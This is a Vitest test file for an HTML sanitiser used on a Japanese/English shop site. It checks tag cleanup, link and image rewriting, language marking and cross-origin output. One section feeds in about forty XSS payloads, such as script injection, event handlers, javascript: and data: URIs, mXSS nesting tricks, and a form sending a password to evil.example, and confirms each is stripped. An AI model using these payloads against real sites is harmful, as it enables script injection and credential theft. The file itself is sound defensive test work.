import { describe, expect, it } from 'vitest';
import { sanitise } from '#app/security/sanitise.ts';
import { createCleaner } from '#kit/html/clean-html.ts';

const clean = (html: string, locale: 'ja' | 'en' = 'ja'): string => sanitise(html, locale).html;

describe('the sanitiser', () => {
  it.each([
    ['<h1>A</h1><h5>B</h5><h6>C</h6>', '<h2>A</h2><h4>B</h4><h4>C</h4>'],
    ['<p>a<br>b</p><hr>', '<p>a<br />b</p><hr />'],
    ['<ol start="3"><li>a</ol>', '<ol start="3"><li>a</li></ol>'],
    ['<dl><dt>a<dd>b</dl>', '<dl><dt>a</dt><dd>b</dd></dl>'],
    ['<ruby>漢<rp>(</rp><rt>かん</rt><rp>)</rp></ruby>', '<ruby>漢<rp>(</rp><rt>かん</rt><rp>)</rp></ruby>'],
    ['<p style="color:red" class="x" id="y" onclick="z">a</p>', '<p>a</p>'],
    ['<span style="position:fixed" lang="ja">a</span>', '<span>a</span>'],
    ['<font color="red">a</font><center>b</center>', 'ab'],
    ['1 < 2 & 3 > 2', '1 &lt; 2 &amp; 3 &gt; 2'],
    ['<pre><code>a  b</code></pre>', '<pre><code>a  b</code></pre>'],
    ['<figure><figcaption>a</figcaption></figure>', '<figure><figcaption>a</figcaption></figure>'],
    [
      '<table><tr><th scope="row" width="9">a<td colspan="2">b</table>',
      '<div class="rich-scroll" tabindex="0"><table><tr><th scope="row">a</th><td colspan="2">b</td></tr></table></div>',
    ],
  ])('turns %s into %s', (given, wanted) => expect(clean(given)).toBe(wanted));
});

describe('a link in sanitised HTML', () => {
  const href = (html: string, locale: 'ja' | 'en' = 'ja') => /href="([^"]*)"/.exec(clean(html, locale))?.[1];

  it.each([
    ['/faq', '/faq', '/en/faq'],
    ['/', '/', '/en'],
    ['/en/faq', '/faq', '/en/faq'],
    ['faq?x=1#y', '/faq?x=1#y', '/en/faq?x=1#y'],
    ['http://localhost:3000/faq', '/faq', '/en/faq'],
    ['/media/80x80/a.webp', '/media/80x80/a.webp', '/media/80x80/a.webp'],
    ['#part', '#part', '#part'],
    ['mailto:shop@example.jp', 'mailto:shop@example.jp', 'mailto:shop@example.jp'],
    ['tel:0612345678', 'tel:0612345678', 'tel:0612345678'],
  ])('to %s leads to the language of the page', (given, ja, en) => {
    expect(href(`<a href="${given}">a</a>`)).toBe(ja);
    expect(href(`<a href="${given}">a</a>`, 'en')).toBe(en);
  });

  it('to another site opens in a new tab without a referrer', () => {
    for (const to of ['https://other.example/a', '//other.example/a', '/\\other.example/a'])
      expect(clean(`<a href="${to}" target="_top" rel="opener">a</a>`)).toMatch(
        /^<a href="https?:\/\/other\.example\/a" target="_blank" rel="noopener noreferrer">a<\/a>$/,
      );
    expect(clean('<a href="/faq" target="_blank" rel="opener">a</a>')).toBe('<a href="/faq">a</a>');
  });
});

describe('pictures in sanitised HTML', () => {
  it('come from our own media, load lazily and have their size', () => {
    expect(clean('<img src="/media/300x300/a.webp" width="300" height="200" onerror="x">')).toBe(
      '<img alt="" loading="lazy" src="/media/300x300/a.webp" width="300" height="200" />',
    );
    expect(clean('<img src="http://localhost:3000/media/80x80/a.webp" alt="絵" width="100%">')).toBe(
      '<img alt="絵" loading="lazy" src="/media/80x80/a.webp" />',
    );
  });

  it.each([
    'https://other.example/pixel.gif',
    '//other.example/media/a.webp',
    'data:image/svg+xml,<svg onload=alert(1)>',
    '/session-api/logout',
    '/media/../session-api/logout',
    'javascript:alert(1)',
    '',
  ])('from %s are removed', (src) => expect(clean(`a<img src="${src}" alt="x">b`)).toBe('ab'));
});

describe('the sanitiser removes the attack in', () => {
  it.each([
    '<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</script>',
    '<SCRIPT SRC=//evil.example></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src="/media/a" onload="alert(1)" srcset="//evil.example 1x">',
    '<svg><script>alert(1)</script></svg>',
    '<svg/onload=alert(1)>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<style>*{background:url(//evil.example)}</style>',
    '<link rel=stylesheet href=//evil.example>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<base href=//evil.example>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="//evil.example"><input name=password><button>go</button></form>',
    '<textarea><script>alert(1)</script></textarea>',
    '<template><script>alert(1)</script></template>',
    '<xmp><script>alert(1)</script></xmp>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href=" java\tscript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>',
    '<a href="\u0001javascript:alert(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="http://user:pass@evil.example">a</a>',
    '<a href="/faq" onmouseover="alert(1)" style="position:fixed;inset:0">a</a>',
    '<div style="position:fixed;inset:0" id="csp" name="body">a</div>',
    '<p title="<script>alert(1)</script>">a</p>',
    '<!--<script>alert(1)</script>-->',
    '<!--[if IE]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>',
    '<details open ontoggle=alert(1)>a</details>',
    '<b onfocus=alert(1) tabindex=1 autofocus contenteditable>a</b>',
    '<p is="evil-element" data-x="1" slot="x">a</p>',
  ])('%s', (attack) => {
    const left = clean(attack);
    expect(left).not.toMatch(/<(?!\/?(?:a|b|p|img|span|table|div class="rich-scroll")\b)/i);
    expect(left).not.toMatch(/\son\w+=|script:|data:|srcset|style|evil\.example|\s(?:id|name|is|slot)=/i);
    // Sanitising the result again changes nothing.
    expect(clean(left)).toBe(left);
  });
});

describe('the language of sanitised HTML', () => {
  it('is marked for Japanese on English pages, but not for English that quotes Japanese', () => {
    expect(sanitise('<p>国内のみの発送です。</p>', 'en').lang).toBe('ja');
    expect(sanitise('<p>Ask for 漢字ドリル at the counter.</p>', 'en').lang).toBeUndefined();
    expect(sanitise('<p>国内のみの発送です。</p>', 'ja').lang).toBeUndefined();
  });
});

describe('HTML for a page of another origin', () => {
  const elsewhere = createCleaner({ shopUrl: 'https://shop.example', elsewhere: true });

  it.each([
    ['<a href="/faq">a</a>', '<a href="https://shop.example/en/faq" target="_blank">a</a>'],
    ['<a href="#b">a</a>', '<a href="#b" target="_blank">a</a>'],
    ['<a href="javascript:a()">a</a>', '<span>a</span>'],
    [
      '<img src="/media/80x80/a.webp">',
      '<img alt="" loading="lazy" src="https://shop.example/media/80x80/a.webp" />',
    ],
    ['<img src="https://other.example/media/a.webp">', ''],
  ])('contains %s as %s', (given, wanted) => expect(elsewhere.sanitise(given, 'en').html).toBe(wanted));

  it('comes with a list, for staff, that names each removed part once', () => {
    const html = `<h1 class="x">a</h1><p class="y" onclick="z()">b</p><script>c</script><script>d</script>
      <a href="javascript:e()">e</a><a href="/faq">f</a><img src="//other.example/g.png"><table><tr><td colspan="2">h`;
    expect(elsewhere.removedFrom(html)).toEqual([
      { kind: 'attribute', what: 'class' },
      { kind: 'attribute', what: 'onclick' },
      { kind: 'tag', what: '<script>' },
      { kind: 'link', what: 'javascript:e()' },
      { kind: 'picture', what: '//other.example/g.png' },
    ]);
    expect(elsewhere.removedFrom('<p>a <strong>b</strong></p>')).toEqual([]);
  });
});
